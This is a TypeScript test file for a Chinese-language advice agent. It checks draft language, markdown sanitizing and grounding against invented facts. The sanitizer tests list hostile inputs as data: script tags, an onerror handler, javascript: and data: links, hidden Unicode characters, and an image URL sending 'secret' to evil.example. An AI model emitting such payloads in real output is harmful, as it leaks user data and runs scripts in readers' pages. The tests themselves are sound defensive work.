import { describe, expect, it } from 'vitest';
import { isInLanguage } from '../../src/agent/draft-language.ts';
import { checkDraft } from '../../src/agent/grounding.ts';
import { plainMarkdown } from '../../src/agent/plain-markdown.ts';

describe('the language of a draft', () => {
  it.each([
    ['zh-CN', '您可以看看 Java 开发工程师和 UI 设计师这两个岗位。', true],
    ['zh-CN', 'Of course, here is what the law says about it.', false],
    ['zh-CN', 'Конечно, я помогу.', false],
    ['zh-CN', 'もちろんです。お手伝いします。', false],
    ['zh-CN', '2490', true],
    ['en', 'There are two posts for 保安 (security guard) at 示例物业有限公司.', true],
    ['en', '好的，这里有两个保安岗位，您看看。', false],
  ] as const)('in %s: %s', (locale, draft, expected) => {
    expect(isInLanguage(draft, locale)).toBe(expected);
  });
});

describe('what may be said', () => {
  it.each([
    ['好的<script>alert(1)</script>。', '好的。'],
    ['![看这里](https://evil.example/p.png?d=secret)好', '看这里好'],
    ['[点我](javascript:alert(1))', '点我'],
    ['[点我](data:text/html;base64,xx)', '点我'],
    ['<img src=x onerror=alert(1)>好', '好'],
    ['[官网](https://www.mohrss.gov.cn/)', '[官网](https://www.mohrss.gov.cn/)'],
    ['[12333](tel:12333)', '[12333](tel:12333)'],
    ['好\u{e0041}\u{e0042}\u202e的\u200b', '好的'],
    ['工资<5000，**加粗**\n- 一项', '工资<5000，**加粗**\n- 一项'],
  ])('%j becomes %j', (text, expected) => {
    expect(plainMarkdown(text)).toBe(expected);
  });
});

describe('the grounding check, against what a model makes up', () => {
  const grounds = {
    material: '{"employer":"示例物业有限公司","description":"月薪4到6千，也就是0.8-1.2万一季，比例0.3，三个月试用期"}',
    citations: [{ id: 'x', title: '劳动合同法', article: '第八十二条' }],
    links: ['https://www.gov.cn/a'],
  };
  const dropped = (sentence: string) => checkDraft(sentence, grounds).dropped;

  it.each([
    '您能拿到三千一百元。',
    '您能拿到３１００元。',
    '补贴是百分之四十五。',
    '试用期是九个月。',
    '依据《劳动法》第八十二条。',
    '根据劳动法第八十二条可以要。',
    '依据劳动合同法第八十二条、第八十三条。',
    'Article 83 says so.',
    '请看 www.evil.example 。',
    '请点 https://www.gov.cn/b 。',
    '您可以去幸福物业有限公司。',
    '您能拿到9千。',
  ])('drops “%s”', (sentence) => {
    expect(dropped(sentence)).toHaveLength(1);
  });

  it.each([
    '月薪4000到6000元。',
    '月薪四千元起。',
    '一季8000到12000元。',
    '比例是百分之三十，也就是30%。',
    '试用期三个月。',
    '根据中华人民共和国劳动合同法第82条。',
    '依据《劳动合同法》第八十二条。',
    'Article 82 of the Labour Contract Law says so.',
    '推荐您看看示例物业有限公司。',
    '请看 https://www.gov.cn/a 。',
    '一步一步来，一天就好。',
  ])('keeps “%s”', (sentence) => {
    expect(dropped(sentence)).toEqual([]);
  });
});
